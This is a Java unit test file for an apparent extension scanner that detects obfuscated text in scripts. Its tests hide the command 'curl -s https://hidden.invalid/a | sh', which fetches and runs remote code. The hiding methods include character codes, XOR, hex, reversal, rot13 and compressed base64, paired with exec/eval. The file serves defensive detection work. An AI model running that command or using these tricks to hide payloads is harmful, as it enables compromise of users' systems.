package dev.vsxray.scanner.script;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HexFormat;
import java.util.stream.Collectors;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;

class HiddenTextsTest {

    private static final String COMMAND = "curl -s https://hidden.invalid/a | sh";

    @Test
    void numbersAreRead() {
        String list = COMMAND.chars().mapToObj(Integer::toString).collect(Collectors.joining(", "));
        assertHidden("$g = " + list + "\n-join ($g | % { [char]$_ })", "character codes");
    }

    @Test
    void numbersUnderAKeyAreRead() {
        String list = COMMAND.chars().mapToObj(c -> Integer.toString(c ^ 0x25)).collect(Collectors.joining(","));
        assertHidden("k = 37\nd = [" + list + "]\n''.join(chr(b ^ k) for b in d)", "character codes, xor");
    }

    @Test
    void numbersFromWhichSomethingIsTakenAreRead() {
        String list = COMMAND.chars().mapToObj(c -> Integer.toString(c + 12)).collect(Collectors.joining(", "));
        assertHidden("t = [" + list + "]\nexec(''.join(chr(g - 12) for g in t))", "character codes, shifted");
    }

    @Test
    void digitsOverSeveralLinesUnderAWordAreRead() {
        byte[] bytes = COMMAND.getBytes(StandardCharsets.US_ASCII);
        byte[] key = "word".getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] ^= key[i % key.length];
        }
        String hex = HexFormat.of().formatHex(bytes);
        assertHidden(
                "K = b'word'\nD = (\n    \"" + hex.substring(0, 40) + "\"\n    \"" + hex.substring(40)
                        + "\"\n)\nbytes(b ^ K[i % 4] for i, b in enumerate(D))",
                "hex, xor");
    }

    @Test
    void textsBackwardsAreRead() {
        assertHidden("s = \"" + new StringBuilder(COMMAND).reverse() + "\"\nexec(s[::-1])", "reversed");
    }

    @Test
    void textsTurnedByThirteenAreRead() {
        assertHidden("$u = str_rot13('phey -f uggcf://uvqqra.vainyvq/n | fu');", "rot13");
    }

    @Test
    void hexadecimalDigitsUnderAKeyAreRead() {
        byte[] bytes = COMMAND.getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] ^= 7;
        }
        assertHidden("$d = hex2bin('" + HexFormat.of().formatHex(bytes) + "'); ord($d[$i]) ^ 7", "hex, xor");
    }

    @Test
    void packedTextsAreRead() throws IOException {
        ByteArrayOutputStream gzip = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(gzip)) {
            out.write(COMMAND.getBytes(StandardCharsets.US_ASCII));
        }
        ByteArrayOutputStream bare = new ByteArrayOutputStream();
        try (DeflaterOutputStream out = new DeflaterOutputStream(bare, new Deflater(9, true))) {
            out.write(COMMAND.getBytes(StandardCharsets.US_ASCII));
        }
        for (ByteArrayOutputStream packed : new ByteArrayOutputStream[] {gzip, bare}) {
            String text = Base64.getEncoder().encodeToString(packed.toByteArray());
            assertHidden("eval(gzinflate(base64_decode('" + text + "')));", "base64, packed");
        }
    }

    @Test
    void whatHidesATextIsToldWhereItStandsBelowTextsInPieces() {
        String script = "a = (\"one\"\n    \"two\")\nb = \"" + new StringBuilder(COMMAND).reverse() + "\"\n";
        assertThat(HiddenTexts.in(script))
                .singleElement()
                .satisfies(
                        hidden -> assertThat(script.substring(hidden.start())).startsWith("\"hs |"));
    }

    @Test
    void whatSaysNothingIsNotHidden() {
        assertThat(HiddenTexts.in("x = 'the quick brown fox'; y = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]; z = '"
                        + Base64.getEncoder().encodeToString(new byte[200]) + "'"))
                .isEmpty();
    }

    private static void assertHidden(String script, String how) {
        assertThat(HiddenTexts.in(script)).anySatisfy(hidden -> {
            assertThat(hidden.how()).isEqualTo(how);
            assertThat(hidden.text()).isEqualTo(COMMAND);
        });
    }
}
